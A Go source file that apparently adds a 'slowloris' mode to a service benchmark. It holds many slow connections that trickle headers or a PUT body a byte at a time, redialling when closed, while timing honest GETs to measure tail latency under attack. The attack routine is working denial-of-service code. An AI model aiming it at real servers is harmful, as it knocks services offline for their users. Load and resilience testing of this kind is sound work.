package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// slowlorisMode holds -slow connections that send a request a byte at a
// time (redialling each one the agent closes) while -c honest workers time
// closed-loop GETs: the figure is the honest p99 under the attack.
func slowlorisMode() mode {
	return mode{
		name:    "slowloris",
		summary: "holds -slow connections sending headers or bodies a byte per -every (redialling those closed) while -c workers time GETs of -path",
		examples: []string{
			"-addr 127.0.0.1:8500 -slow 1000 -sources 5 -c 4 -duration 30s",
			"-addr 127.0.0.1:8500 -slow 1000 -kind body -path /v1/status/leader",
		},
		setup: func(fs *flag.FlagSet, c *common) func(context.Context, *output) error {
			addCommon(fs, c, 1, 30*time.Second, 0)
			path := fs.String("path", "/v1/status/leader", "`path` the honest workers GET")
			slow := fs.Int("slow", 1000, "slow `connections` to hold")
			sources := fs.Int("sources", 5, "spread the slow connections over this many loopback source IPs (127.0.0.2 and up), as many clients would; 0 uses the default source")
			kind := fs.String("kind", "headers", "what the slow connections send slowly: headers or body")
			every := fs.Duration("every", time.Second, "pause between the bytes of a slow connection")
			return func(ctx context.Context, out *output) error {
				switch {
				case !strings.HasPrefix(*path, "/"):
					return badFlag("-path %q must start with /", *path)
				case *slow < 0 || *slow > 100000:
					return badFlag("-slow must be 0-100000, got %d", *slow)
				case *sources < 0 || *sources > 250:
					return badFlag("-sources must be 0-250, got %d", *sources)
				case *kind != "headers" && *kind != "body":
					return badFlag("-kind must be headers or body, got %q", *kind)
				case *every <= 0:
					return badFlag("-every must be positive, got %v", *every)
				}
				r, err := c.requester("addr", c.addr, out)
				if err != nil {
					return err
				}
				defer r.client.CloseIdleConnections()
				u, err := url.Parse(r.base)
				if err != nil {
					return err
				}
				atk := &slowloris{target: u.Host, kind: *kind, every: *every, sources: *sources}
				atkCtx, stopAtk := context.WithCancel(ctx)
				atk.start(atkCtx, *slow)
				// Let the attack build up before measuring.
				if err := atk.waitHeld(ctx, *slow, 30*time.Second); err != nil {
					fmt.Fprintf(out.stderr, "meridian-bench slowloris: %v; measuring anyway\n", err)
				}
				res := runLoad(ctx, c.spec(), func(ctx context.Context, _ int, _, _ int64) error {
					status, _, _, err := r.do(ctx, "GET", *path, nil, 0)
					if err != nil {
						return err
					}
					if status < 200 || status > 299 {
						return fmt.Errorf("GET %s: status %d", *path, status)
					}
					return nil
				})
				held := atk.held.Load()
				stopAtk()
				atk.wg.Wait()
				what := fmt.Sprintf("get %s%s c=%d while %d of %d slow connections were held (%s, a byte per %s; %d closed by the agent and redialled, %d dials failed)",
					r.base, *path, c.conns, held, *slow, *kind, *every, atk.closed.Load(), atk.refused.Load())
				out.report("slowloris", what, res.n, res.errors, res.elapsed, &res.hist, res.firstErr)
				return nil
			}
		},
	}
}

// slowloris is the attack: each of its connections sends a request as
// slowly as it may and is redialled when the agent closes it.
type slowloris struct {
	target  string
	kind    string
	every   time.Duration
	sources int

	held    atomic.Int64 // connections open now
	closed  atomic.Int64 // connections the agent closed
	refused atomic.Int64 // dials that failed
	wg      sync.WaitGroup
}

func (s *slowloris) start(ctx context.Context, n int) {
	for i := range n {
		s.wg.Go(func() { s.run(ctx, i) })
	}
}

// waitHeld waits until n connections are open, or fails after timeout.
func (s *slowloris) waitHeld(ctx context.Context, n int, timeout time.Duration) error {
	deadline := time.Now().Add(timeout)
	for s.held.Load() < int64(n) {
		if time.Now().After(deadline) {
			return fmt.Errorf("only %d of %d slow connections open after %s", s.held.Load(), n, timeout)
		}
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(50 * time.Millisecond):
		}
	}
	return nil
}

// run keeps connection i open and slow until ctx ends.
func (s *slowloris) run(ctx context.Context, i int) {
	d := net.Dialer{Timeout: 5 * time.Second}
	if s.sources > 0 {
		d.LocalAddr = &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(2+i%s.sources))}
	}
	for ctx.Err() == nil {
		conn, err := d.DialContext(ctx, "tcp", s.target)
		if err != nil {
			s.refused.Add(1)
			select {
			case <-ctx.Done():
				return
			case <-time.After(s.every):
			}
			continue
		}
		s.held.Add(1)
		err = s.trickle(ctx, conn)
		s.held.Add(-1)
		conn.Close()
		if ctx.Err() == nil && err != nil {
			s.closed.Add(1)
		}
	}
}

// trickle sends one slow request on conn until the agent closes it (an
// error) or ctx ends (nil).
func (s *slowloris) trickle(ctx context.Context, conn net.Conn) error {
	head := "GET / HTTP/1.1\r\nHost: x\r\n"
	if s.kind == "body" {
		head = "PUT /v1/kv/slowloris HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"
	}
	if _, err := io.WriteString(conn, head); err != nil {
		return err
	}
	// A read returns when the agent answers (408, 429) or hangs up.
	gone := make(chan struct{})
	go func() {
		defer close(gone)
		_, _ = io.Copy(io.Discard, conn)
	}()
	t := time.NewTicker(s.every)
	defer t.Stop()
	for {
		select {
		case <-ctx.Done():
			conn.Close()
			<-gone
			return nil
		case <-gone:
			return errors.New("closed by the agent")
		case <-t.C:
			b := "X-a: b\r\n"
			if s.kind == "body" {
				b = "v"
			}
			if _, err := io.WriteString(conn, b); err != nil {
				conn.Close()
				<-gone
				return err
			}
		}
	}
}
